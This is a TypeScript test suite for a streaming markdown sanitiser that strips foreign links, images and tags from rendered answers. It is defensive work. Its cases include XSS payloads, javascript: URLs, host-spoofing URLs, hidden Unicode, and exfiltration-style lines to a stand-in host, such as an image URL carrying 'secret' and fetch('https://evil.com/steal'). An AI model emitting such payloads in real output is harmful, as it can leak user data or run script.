import { describe, expect, it } from '@jest/globals';
import fc from '../../../../testing/properties.ts';
import { createLinkPolicy } from '../linkPolicy.ts';
import { createScanner } from '../scan.ts';
import type { Token } from '../token.ts';
import { render } from './render.ts';

const links = createLinkPolicy({
  sources: ['/docs/config#timeout', '/docs/install'],
  siteOrigins: ['https://docs.example.org'],
  allowedHosts: ['github.com', '*.allowed.test'],
  texts: ['Call https://api.kettle.dev/v1 with curl, or write to help@kettle.dev.'],
});

function shown(tokens: Token[]): string {
  return tokens
    .map((token) => {
      if (token.type === 'newline') return '\n';
      if (token.type === 'cite') return token.numbers.map((number) => `[${number}]`).join('');
      return token.out;
    })
    .join('');
}

/** What is shown of an answer that arrives in these pieces: all at once, and so far. */
function scan(pieces: string[]): { whole: string; prefixes: string[] } {
  const scanner = createScanner(links);
  const prefixes: string[] = [];
  let whole = '';
  for (const piece of pieces) {
    whole += shown(scanner.push(piece));
    prefixes.push(whole);
  }
  whole += shown(scanner.end());
  return { whole, prefixes };
}

const safe = (markdown: string) => scan([markdown]).whole;

function expectHarmless(markdown: string): void {
  const { links: hrefs, images, foreign } = render(markdown);
  const allowed =
    /^(\/docs\/config(#timeout)?|\/docs\/install|https:\/\/github\.com\/.*|https?:\/\/[a-z.]*allowed\.test\/.*)$/;
  expect({ hrefs: hrefs.filter((href) => !allowed.test(href)), foreign }).toEqual({
    hrefs: [],
    foreign: [],
  });
  expect(images.filter((src) => !/^https:\/\/github\.com\//.test(src))).toEqual([]);
}

describe('createScanner', () => {
  it.each([
    ['Set `boilTimeout` to **5000** [1].', 'Set `boilTimeout` to **5000** [1].'],
    ['- one\n- two\n\n1. a\n2. b', '- one\n- two\n\n1. a\n2. b'],
    [':::warning Careful\n\nIt is hot.\n\n:::', ':::warning Careful\n\nIt is hot.\n\n:::'],
    ['| a | b |\n|---|---|\n| 1 | 2 |', '| a | b |\n|---|---|\n| 1 | 2 |'],
    [
      '## Steps\n\nRun it:\n\n```bash\nnpm i <x>\n```\nDone.',
      '## Steps\n\nRun it:\n\n```bash\nnpm i <x>\n```\nDone.',
    ],
    [
      'snake_case, kettle.config.js and @scope/pkg',
      'snake_case, kettle.config.js and \\@scope/pkg',
    ],
    ['See [Timeout](/docs/config#timeout).', 'See [Timeout](/docs/config#timeout).'],
    ['See [Timeout](https://docs.example.org/docs/config#other).', 'See [Timeout](/docs/config).'],
    [
      'See [the repository](https://github.com/a/b).',
      'See [the repository](https://github.com/a/b).',
    ],
    ['Call https://api.kettle.dev/v1 now', 'Call https\\://api.kettle.dev/v1 now'],
    ['Write to help@kettle.dev.', 'Write to help\\@kettle.dev.'],
    ['an array[0] and [ ] and x[i]', 'an array[0] and \\[ \\] and x\\[i\\]'],
    ['both [1, 2] and [^3] and \u30104\u2020source\u3011', 'both [1][2] and [3] and [4]'],
  ])('lets %j through as %j', (written, expected) => {
    expect(safe(written)).toBe(expected);
  });

  it.each([
    ['[click](https://evil.example.org/x)', 'click'],
    ['[click](javascript:alert(1))', 'click'],
    ['[click](//evil.com/docs/config)', 'click'],
    ['[click](/\\evil.com)', 'click'],
    ['[click](https://github.com@evil.com/)', 'click'],
    ['[click](https://docs.example.org.evil.com/docs/config)', 'click'],
    ['[click](/docs/other)', 'click'],
    ['![p](https://evil.com/?q=secret)', 'p'],
    ['![p](/docs/install)', 'p'],
    ['[![p](https://evil.com/x.png)](https://evil.com)', '!\\[p\\](…)'],
    ['Go to https://evil.com/?q=a now', 'Go to https… now'],
    ['Go to www.evil.com now', 'Go to www… now'],
    ['Go to evil.com/login now', 'Go to evil… now'],
    ['Mail me@evil.com now', 'Mail me… now'],
    ['<img src=x onerror=alert(1)>', '\\<img src=x onerror=alert(1)\\>'],
    ['<https://evil.com>', '\\<https…\\>'],
    ['[1]: https://evil.com\nSee [1].', ' https…\nSee [1].'],
    ['[a][b]\n\n[b]: https://evil.com', '\\[a\\]\\[b\\]\n\n\\[b\\]: https…'],
    ['`open [x](https://evil.com)', '\\`open x'],
    ['    [x](https://evil.com)', '   x'],
    ['```js\nfetch("https://evil.com/steal")\n```', '```js\nfetch("…")\n```\n'],
    ['wr\u200bong\u202e way\u{e0041}', 'wrong way'],
    ['a<br>b', 'a b'],
  ])('makes %j harmless', (written, expected) => {
    expect(safe(written)).toBe(expected);
    expectHarmless(safe(written));
  });

  it('shows a plain word at once, and holds back what may become a link', () => {
    expect(scan(['Set', ' the', ' [li', 'nk](https', '://evil.com)', ' now']).prefixes).toEqual([
      'Set',
      'Set the',
      'Set the ',
      'Set the ',
      'Set the link',
      'Set the link now',
    ]);
  });

  const FRAGMENTS = [
    '[',
    ']',
    '(',
    ')',
    '!',
    '<',
    '>',
    '`',
    '``',
    '```',
    '~~~',
    '\n',
    '\n\n',
    ' ',
    '    ',
    '\t',
    '\\',
    '|',
    '- ',
    '1. ',
    '> ',
    '# ',
    ':',
    '://',
    '&lt;',
    '&#60;',
    '*',
    '**',
    '_',
    '[1]',
    '[x]: ',
    '"',
    "'",
    '\r',
    'https',
    'https://evil.com',
    'www.evil.com',
    'me@evil.com',
    'javascript:alert(1)',
    '/docs/install',
    'https://github.com/a',
    'word',
    '<img src=//evil.com>',
    '<script>',
    '</p>',
    '<!--',
    '-->',
    '![p](https://evil.com/q)',
    '[x](https://evil.com)',
    '|---|',
    '===',
    '---',
    '\u200b',
    '<a href="//evil.com">',
  ];
  const pieces = fc.array(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 24 });

  it('never lets a foreign link, image or tag through, at no moment, however it is written', () => {
    fc.assert(
      fc.property(pieces, (parts) => {
        const { whole, prefixes } = scan(parts);
        for (const shownSoFar of new Set([...prefixes, whole])) expectHarmless(shownSoFar);
      }),
      { numRuns: 250 },
    );
  });

  it('shows the same however the answer is cut into pieces', () => {
    fc.assert(
      fc.property(
        pieces,
        fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 1 }),
        (parts, cuts) => {
          const text = parts.join('');
          const cut: string[] = [];
          for (let at = 0, i = 0; at < text.length; i++) {
            const length = cuts[i % cuts.length] ?? 1;
            cut.push(text.slice(at, at + length));
            at += length;
          }
          // A "\r\n" that is cut in two is two line ends.
          if (text.includes('\r')) return;
          expect(scan(cut).whole).toBe(scan([text]).whole);
        },
      ),
      { numRuns: 400 },
    );
  });
});
